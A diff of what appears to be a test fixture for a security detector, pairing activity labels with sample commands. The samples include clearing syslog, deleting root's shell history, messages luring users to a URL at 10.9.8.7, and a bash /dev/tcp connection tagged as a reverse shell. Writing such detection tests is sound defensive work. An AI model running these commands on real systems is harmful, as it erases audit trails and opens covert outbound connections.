@@ -1,7 +1,7 @@
 ## Log files cleared
 : > /var/log/syslog
 ## Shell history cleared
-rm -f /root/.bash_history
+cp /etc/hosts /root/.bash_history; rm -f /root/.bash_history
 ## Hidden executable
 #also Executable run from a scratch folder
 #setup stubs /tmp/.x
@@ -39,6 +39,10 @@ wall 'Open http://10.9.8.7/'
 #setup stubs /usr/bin/notify-send
 notify-send Update 'Open http://10.9.8.7/'
 ## Mail sent by a server's command
+#also Reverse shell by bash's own network
+#also Shell connects to the network
+#also Shell of a server connects out
+#also Shell started by a network server
 #setup listener 25
 server 'bash -c ": > /dev/tcp/10.9.8.7/25"'
 ## Mail with a chosen sender sent by a tool
